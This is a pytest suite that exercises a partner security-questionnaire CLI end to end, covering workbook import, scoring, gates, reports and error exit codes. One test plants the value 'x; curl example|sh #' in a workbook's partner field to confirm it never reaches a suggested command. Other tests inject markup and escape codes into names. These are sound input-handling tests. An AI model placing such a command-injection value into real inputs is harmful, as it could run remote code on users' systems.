"""The program from end to end: real workspaces, real workbooks, exit codes and words."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
import sys
from fractions import Fraction
from pathlib import Path

import pytest

from assess.policies import SHIPPED
from assess.store import load_submissions, open_store
from tests.program import Run, delete_row, fill, relabel, runner

PERIOD = ("--period", "2026Q3", "--as-of", "2026-10-10")


@pytest.fixture
def run(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> Run:
    monkeypatch.delenv("ASSESS_WORKSPACE", raising=False)
    return runner(capsys, monkeypatch)


@pytest.fixture
def home(tmp_path: Path, run: Run, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A workspace with one logistics partner, its workbook issued; the current folder."""
    run("init", tmp_path)
    monkeypatch.chdir(tmp_path)
    added = run(
        *("partner", "add", "north-freight", "--name", "North Freight", "--kind", "logistics"),
        *("--data", "internal", "--access", "portal", "--criticality", "high", "--regions", "us"),
    )
    assert added.code == 0, added.err
    issued = run("issue", "--out", "outbox", *PERIOD)
    assert issued.code == 0, issued.err
    return tmp_path


@pytest.fixture
def workbook(home: Path) -> Path:
    return home / "outbox" / "north-freight-2026Q3.xlsx"


def imported(run: Run, path: Path) -> None:
    done = run("import", path, "--as-of", "2026-10-10")
    assert done.code == 0, done.err


def test_a_filled_workbook_becomes_a_score_a_tier_and_a_recommendation(
    run: Run, workbook: Path
) -> None:
    fill(workbook, {})
    imported(run, workbook)
    [result] = run("score", "--format", "json", *PERIOD).data
    assert result["partner"] == "north-freight"
    assert result["overall"] == 100.0
    assert result["coverage"] == 100.0
    assert result["bounds"] == {"low": 100.0, "high": 100.0}
    assert set(result["principles"].values()) == {100.0}
    assert result["tier"]["required"] == "internal"
    assert result["tier"]["achieved"] == "restricted"
    assert result["tier"]["recommendation"] == "approve"


def test_a_result_names_questionnaire_policy_method_and_file(run: Run, workbook: Path) -> None:
    fill(workbook, {})
    imported(run, workbook)
    [result] = run("score", "--format", "json", *PERIOD).data
    for document in ("questionnaire", "policy"):
        assert set(result[document]) == {"id", "version", "sha256"}
        assert len(result[document]["sha256"]) == 64
    assert len(result["file_sha256"]) == 64
    assert result["method"] == "1"


def test_a_blank_workbook_has_no_score_and_no_tier(run: Run, workbook: Path) -> None:
    imported(run, workbook)
    [result] = run("score", "--format", "json", *PERIOD).data
    assert result["overall"] is None
    assert result["coverage"] == 0.0
    assert result["bounds"] == {"low": 0.0, "high": 100.0}
    assert result["tier"]["achieved"] is None


def test_a_claim_of_not_applicable_gains_nothing_until_it_is_accepted(
    run: Run, workbook: Path
) -> None:
    fill(workbook, {"records.scan-signin": "Not applicable"})
    imported(run, workbook)
    [claimed] = run("score", "--format", "json", *PERIOD).data
    assert claimed["counts"]["not_applicable_claimed"] == 1
    assert claimed["overall"] == 100.0
    assert claimed["tier"]["decisive"] < 100.0
    words = ("review", "accept-na", "north-freight", "records.scan-signin")
    done = run(*words, "--reason", "None on site, seen in the audit", "--by", "Assessor", *PERIOD)
    assert done.code == 0, done.err
    [accepted] = run("score", "--format", "json", *PERIOD).data
    assert accepted["counts"]["not_applicable_accepted"] == 1
    assert accepted["tier"]["decisive"] == 100.0


def test_a_review_of_an_answer_that_claims_nothing_is_refused(run: Run, workbook: Path) -> None:
    fill(workbook, {})
    imported(run, workbook)
    words = ("review", "accept-na", "north-freight", "records.scan-signin")
    done = run(*words, "--reason", "x", "--by", "Assessor", *PERIOD)
    assert done.code == 3
    assert "does not claim" in done.err


def test_the_same_bytes_again_change_nothing(run: Run, workbook: Path) -> None:
    fill(workbook, {})
    imported(run, workbook)
    before = run("score", "--format", "json", *PERIOD).out
    done = run("import", workbook, "--format", "json", "--as-of", "2026-10-10")
    assert [each["status"] for each in done.data["files"]] == ["unchanged"]
    assert run("score", "--format", "json", *PERIOD).out == before


def test_a_second_submission_supersedes_the_first_and_both_files_stay(
    run: Run, home: Path, workbook: Path
) -> None:
    imported(run, workbook)
    second = workbook.with_name("again.xlsx")
    shutil.copy(workbook, second)
    fill(second, {})
    done = run("import", second, "--format", "json", "--as-of", "2026-10-10")
    assert [each["status"] for each in done.data["files"]] == ["supersedes"]
    assert run("score", "--format", "json", *PERIOD).data[0]["overall"] == 100.0
    assert len(list((home / "evidence").rglob("*.xlsx"))) == 2


def test_a_rejected_file_stops_nothing_but_itself_and_exits_with_3(
    run: Run, home: Path, workbook: Path
) -> None:
    fill(workbook, {})
    (home / "outbox" / "broken.xlsx").write_bytes(b"PK\x03\x04 and no more")
    done = run("import", home / "outbox", "--format", "json", "--as-of", "2026-10-10")
    assert done.code == 3
    statuses = {Path(each["file"]).name: each["status"] for each in done.data["files"]}
    assert statuses == {"broken.xlsx": "rejected", "north-freight-2026Q3.xlsx": "imported"}


def test_a_dry_run_stores_nothing(run: Run, home: Path, workbook: Path) -> None:
    fill(workbook, {})
    done = run("import", workbook, "--dry-run", "--format", "json", "--as-of", "2026-10-10")
    assert [each["status"] for each in done.data["files"]] == ["imported"]
    assert not (home / "evidence").exists()
    assert run("score", *PERIOD).code == 0
    assert run("score", "--format", "json", *PERIOD).data == []


def test_a_wrong_answer_is_shown_with_its_cell_and_what_to_do(run: Run, workbook: Path) -> None:
    fill(workbook, {"encryption.at-rest": "Yes, see the SOC 2 report"})
    done = run("import", workbook, "--format", "json", "--as-of", "2026-10-10")
    [file] = done.data["files"]
    [problem] = file["problems"]
    assert (done.code, file["status"]) == (3, "rejected")
    assert problem["sheet"] == "Questions"
    assert problem["cell"].startswith("D")
    assert problem["hint"]


def test_an_unknown_partner_is_refused_with_the_command_that_adds_it(
    run: Run, workbook: Path, tmp_path_factory: pytest.TempPathFactory
) -> None:
    other = tmp_path_factory.mktemp("other")
    run("init", other)
    done = run("import", workbook, "--workspace", other)
    assert done.code == 3
    assert "assess partner add north-freight" in done.err


@pytest.mark.parametrize("suffix", ["xlsx", "html", "pdf", "md", "json"])
def test_a_gap_report_comes_in_every_format(run: Run, workbook: Path, suffix: str) -> None:
    fill(workbook, {}, rest="blank")
    imported(run, workbook)
    out = workbook.with_name(f"gaps.{suffix}")
    done = run("gaps", "north-freight", "--out", out, *PERIOD)
    assert done.code == 0, done.err
    assert out.stat().st_size > 500


def test_every_answer_short_of_the_best_is_a_gap(run: Run, workbook: Path) -> None:
    fill(workbook, {"encryption.at-rest": "None"}, rest="best")
    imported(run, workbook)
    report = run("gaps", "north-freight", "--format", "json", *PERIOD).data
    assert [gap["question"] for gap in report["findings"]] == ["encryption.at-rest"]


def test_explanations_add_up_to_the_score(run: Run, workbook: Path) -> None:
    fill(workbook, {"encryption.at-rest": "None", "audit.report": ""})
    imported(run, workbook)
    told = run("explain", "north-freight", "--format", "json", *PERIOD).data
    [scored] = run("score", "--format", "json", *PERIOD).data
    whole = sum(Fraction(each["earned"]["overall"]) for each in told["contributions"])
    assert round(float(whole), 1) == scored["overall"]
    assert str(whole) == told["scores"]["overall"]["exact"]


def test_a_gate_compares_exactly_and_exits_with_10(run: Run, workbook: Path) -> None:
    fill(workbook, {"encryption.at-rest": "None"})
    imported(run, workbook)
    [scored] = run("score", "--format", "json", *PERIOD).data
    assert run("score", "--fail-under", "50", *PERIOD).code == 0
    assert run("score", "--fail-under", scored["overall"] + 0.1, *PERIOD).code == 10


def test_a_scorecard_has_a_page_for_the_portfolio_and_each_partner(
    run: Run, home: Path, workbook: Path
) -> None:
    fill(workbook, {})
    imported(run, workbook)
    done = run("scorecard", "--out", "card", *PERIOD)
    assert done.code == 0, done.err
    made = sorted(str(p.relative_to(home / "card")) for p in (home / "card").rglob("*.*"))
    assert made == [
        "index.html",
        "partners/north-freight.html",
        "scorecard.json",
        "scorecard.pdf",
        "scorecard.xlsx",
    ]


@pytest.mark.parametrize("table", ["responses", "scores", "findings"])
@pytest.mark.parametrize("suffix", ["csv", "xlsx", "parquet"])
def test_tables_are_exported(run: Run, workbook: Path, table: str, suffix: str) -> None:
    fill(workbook, {}, rest="blank")
    imported(run, workbook)
    out = workbook.with_name(f"{table}.{suffix}")
    done = run("export", table, "--out", out, "--period", "2026Q3")
    assert done.code == 0, done.err
    assert out.is_file()


@pytest.mark.parametrize(
    ("words", "code"),
    [
        (("score", "--period", "2026Q5"), 2),
        (("score", "--as-of", "03/04/2026"), 2),
        (("score", "--policy", "nobody"), 2),
        (("score", "nobody"), 2),
        (("partner", "show", "nobody"), 2),
        (("questionnaire", "show", "nobody"), 2),
        (("issue", "--questionnaire", "partner-security@9.9.9"), 2),
        (("score", "--workspace", "nowhere"), 2),
        (("questionnaire", "lint", "nowhere.json"), 4),
        (("gaps", "north-freight", "--period", "2020Q1"), 3),
    ],
)
def test_errors_have_their_exit_code_and_no_traceback(
    run: Run, workbook: Path, words: tuple[str, ...], code: int
) -> None:
    imported(run, workbook)
    done = run(*words)
    assert done.code == code
    assert "Traceback" not in done.err
    assert done.err


def test_an_invalid_policy_exits_with_4_and_says_where(
    run: Run, home: Path, workbook: Path
) -> None:
    imported(run, workbook)
    policy = json.loads((SHIPPED / "standard" / "1.0.0.json").read_text("utf-8"))
    policy |= {"id": "ours", "colour": "red"}
    own = home / "policies" / "ours" / "1.0.0.json"
    own.parent.mkdir(parents=True)
    own.write_text(json.dumps(policy), encoding="utf-8")
    done = run("score", "--policy", "ours", *PERIOD)
    assert done.code == 4
    assert "colour" in done.err


@pytest.mark.usefixtures("home")
def test_what_a_partner_wrote_is_shown_as_text_and_not_as_markup(run: Run) -> None:
    run("partner", "add", "red", "--name", "[bold]Red[/bold]", "--kind", "services")
    assert "[bold]Red[/bold]" in run("partner", "list").out


@pytest.mark.usefixtures("home")
def test_control_characters_never_reach_the_terminal(run: Run) -> None:
    done = run("partner", "add", "red", "--name", "\x1b[31mRed", "--kind", "services")
    assert "\x1b" not in done.err + run("partner", "list").out


def test_another_reason_for_the_same_claim_is_not_accepted_by_itself(
    run: Run, workbook: Path
) -> None:
    question = "records.scan-signin"
    fill(workbook, {question: "Not applicable"})
    imported(run, workbook)
    words = ("review", "accept-na", "north-freight", question, "--reason", "Seen", "--by", "We")
    run(*words, *PERIOD)
    again = workbook.with_name("again.xlsx")
    shutil.copy(workbook, again)
    fill(again, {question: "Not applicable"}, reason="We would rather not say.")
    imported(run, again)
    [result] = run("score", "--format", "json", *PERIOD).data
    assert result["counts"]["not_applicable_claimed"] == 1
    assert result["counts"]["not_applicable_accepted"] == 0


def test_a_gate_fails_where_nobody_has_answered(run: Run, workbook: Path) -> None:
    imported(run, workbook)
    silent = ("score", "--period", "2026Q4", "--fail-under", "60")
    assert run(*silent).code == 10
    assert run(*silent, "north-freight").code == 10


def test_adding_a_partner_again_changes_only_what_is_given(run: Run, home: Path) -> None:
    assert home.is_dir()
    done = run("partner", "add", "north-freight", "--name", "North AG", "--kind", "logistics")
    assert done.code == 0
    profile = run("partner", "show", "north-freight", "--format", "json").data
    assert profile["name"] == "North AG"
    assert profile["data_classes"] == ["internal"]
    assert profile["access"] == ["portal"]


def test_a_workbook_relabelled_for_another_partner_is_refused(run: Run, workbook: Path) -> None:
    run("partner", "add", "other", "--name", "Other", "--kind", "services")
    relabel(workbook, partner="other")
    done = run("import", workbook, "--format", "json", "--as-of", "2026-10-10")
    assert done.code == 3
    assert [p["code"] for p in done.data["files"][0]["problems"]] == ["file.damaged-meta"]


@pytest.mark.parametrize("period", ["9999Q4", "0000Q1", "2031Q1"])
def test_an_impossible_period_costs_only_its_own_file(
    run: Run, workbook: Path, period: str
) -> None:
    broken = workbook.with_name("a-broken.xlsx")
    shutil.copy(workbook, broken)
    relabel(broken, period=period)
    done = run("import", workbook.parent, "--format", "json", "--as-of", "2026-10-10")
    assert done.code == 3
    assert [each["status"] for each in done.data["files"]] == ["rejected", "imported"]


def test_a_partner_in_a_file_is_never_put_into_a_command(run: Run, workbook: Path) -> None:
    relabel(workbook, partner="x; curl example|sh #")
    done = run("import", workbook, "--as-of", "2026-10-10")
    assert done.code == 3
    assert "partner add" not in done.err


def test_two_files_for_one_partner_and_quarter_in_a_batch_are_remarked_on(
    run: Run, workbook: Path
) -> None:
    second = workbook.with_name("north-freight-2026Q3-corrected.xlsx")
    fill(workbook, {})
    shutil.copy(workbook, second)
    delete_row(second, "governance.owner")
    done = run("import", workbook.parent, "--format", "json", "--as-of", "2026-10-10")
    notices = [[n["code"] for n in each["notices"]] for each in done.data["files"]]
    assert "file.second-in-batch" not in notices[0]
    assert "file.second-in-batch" in notices[1]


def test_a_deleted_row_counts_as_blank_and_is_remarked_on(run: Run, workbook: Path) -> None:
    fill(workbook, {})
    delete_row(workbook, "governance.owner")
    done = run("import", workbook, "--format", "json", "--as-of", "2026-10-10")
    [file] = done.data["files"]
    assert (file["counts"]["blank"], file["counts"]["absent"]) == (1, 1)
    [notice] = [each for each in file["notices"] if each["code"] == "row.absent"]
    assert "governance.owner" in notice["message"]


def test_a_complete_workbook_has_no_blank_and_no_absent_row(run: Run, workbook: Path) -> None:
    fill(workbook, {})
    [file] = run("import", workbook, "--format", "json", "--as-of", "2026-10-10").data["files"]
    assert (file["counts"]["blank"], file["counts"]["absent"]) == (0, 0)
    assert "row.absent" not in {each["code"] for each in file["notices"]}


def test_an_emptier_file_that_supersedes_is_remarked_on(run: Run, workbook: Path) -> None:
    emptier = workbook.with_name("emptier.xlsx")
    fill(workbook, {})
    shutil.copy(workbook, emptier)
    delete_row(emptier, "governance.owner")
    imported(run, workbook)
    [file] = run("import", emptier, "--format", "json", "--as-of", "2026-10-10").data["files"]
    assert "file.fewer-answers" in {each["code"] for each in file["notices"]}


def test_a_folder_without_any_spreadsheet_is_no_success(run: Run, home: Path) -> None:
    (home / "inbox").mkdir()
    assert run("import", "inbox").code == 3


def test_a_returned_ods_in_a_folder_is_refused_and_not_passed_over(run: Run, home: Path) -> None:
    (home / "inbox").mkdir()
    (home / "inbox" / "answers.ods").write_bytes(b"PK\x03\x04 not ours")
    done = run("import", "inbox", "--format", "json")
    assert [each["status"] for each in done.data["files"]] == ["rejected"]


def test_a_partner_that_was_asked_and_has_not_answered_fails_the_gate(
    run: Run, workbook: Path
) -> None:
    run("partner", "add", "late", "--name", "Late", "--kind", "services", "--data", "public")
    run("issue", "late", "--out", "late", *PERIOD)
    fill(workbook, {})
    imported(run, workbook)
    done = run("score", "--fail-under", "50", *PERIOD)
    assert done.code == 10
    assert "late" in done.err


def test_letters_that_the_terminal_lacks_stop_nothing(home: Path) -> None:
    add = ("partner", "add", "lodz", "--name", "Łódź 🚀", "--kind", "services")
    assert assess(*add, "--workspace", home).wait() == 0
    for shown in ("table", "json"):
        command = [*PROGRAM, "partner", "list", "--format", shown, "--workspace", str(home)]
        environment = {**os.environ, "PYTHONIOENCODING": "cp1252"}
        done = subprocess.run(command, capture_output=True, env=environment, check=False)
        assert (done.returncode, done.stderr) == (0, b"")
        assert shown == "table" or json.loads(done.stdout)[0]["name"] == "Łódź 🚀"


def test_a_changed_evidence_file_costs_only_its_own_file(
    run: Run, home: Path, workbook: Path
) -> None:
    imported(run, workbook)
    [kept] = (home / "evidence").rglob("*.xlsx")
    kept.chmod(0o644)
    kept.write_bytes(b"forged")
    other = workbook.with_name("z.xlsx")
    shutil.copy(workbook, other)
    fill(other, {})
    done = run("import", workbook.parent, "--format", "json", "--as-of", "2026-10-10")
    assert done.code == 3
    assert [each["status"] for each in done.data["files"]] == ["rejected", "supersedes"]


def test_a_folder_that_merely_looks_like_a_library_is_none(
    run: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(Path(__file__).parents[1])
    assert run("questionnaire", "list", "--format", "json").code == 0


def test_a_reader_that_leaves_early_is_no_error() -> None:
    program = "from assess.cli import main; main()"
    command = f"{sys.executable} -c '{program}' questionnaire show partner-security"
    shell = f"set -o pipefail; {command} | head -n 1"
    done = subprocess.run(["bash", "-c", shell], capture_output=True, text=True, check=False)
    assert (done.returncode, done.stderr) == (0, "")


@pytest.mark.slow
def test_an_import_killed_half_way_goes_on_to_the_same_end(tmp_path: Path) -> None:
    whole, killed = tmp_path / "whole", tmp_path / "killed"
    for folder in (whole, killed):
        assess("init", folder).wait()
        assess("partner", "import", SAMPLE / "partners.csv", "--workspace", folder).wait()
    words = ("import", SAMPLE / "returned" / "2026Q2", "--as-of", "2026-07-15", "--workspace")
    assert assess(*words, whole).wait() == 0
    stopped = 0
    for tenths in (4, 5, 6, 7, 8):
        process = assess(*words, killed)
        try:
            process.wait(tenths / 10)
        except subprocess.TimeoutExpired:
            process.kill()
            stopped += 1
            process.wait()
        assert set(stored(killed)) <= set(stored(whole))
    assert stopped
    assert assess(*words, killed).wait() == 0
    assert stored(killed) == stored(whole)


SAMPLE = Path(__file__).parents[1] / "sample_data"


PROGRAM = (sys.executable, "-c", "from assess.cli import main; main()")


def assess(*words: object) -> subprocess.Popen[bytes]:
    """Start the program as a user does."""
    command = [*PROGRAM, *map(str, words)]
    silent = subprocess.DEVNULL
    return subprocess.Popen(command, stdout=silent, stderr=silent, cwd=SAMPLE.parent)


def stored(home: Path) -> list[tuple[str, str, bytes]]:
    """Return what is stored, each with its evidence whole."""
    engine = open_store(f"sqlite:///{home / 'assess.db'}")
    found = load_submissions(engine)
    engine.dispose()
    for each in found:
        sha256 = each.submission.file_sha256
        kept = home / "evidence" / sha256[:2] / f"{sha256}.xlsx"
        assert hashlib.sha256(kept.read_bytes()).hexdigest() == sha256
    return sorted((e.submission.partner, e.submission.file_sha256, e.codes) for e in found)


def test_a_claim_is_accepted_in_the_order_in_which_the_command_began_too(
    run: Run, workbook: Path
) -> None:
    fill(workbook, {"records.scan-signin": "Not applicable"})
    run("import", workbook)
    words = ("review", "north-freight", "records.scan-signin", "--accept-na")
    done = run(*words, "--reason", "Seen in the audit", "--by", "Security team")
    assert (done.code, "accepted" in done.err + done.out) == (0, True)
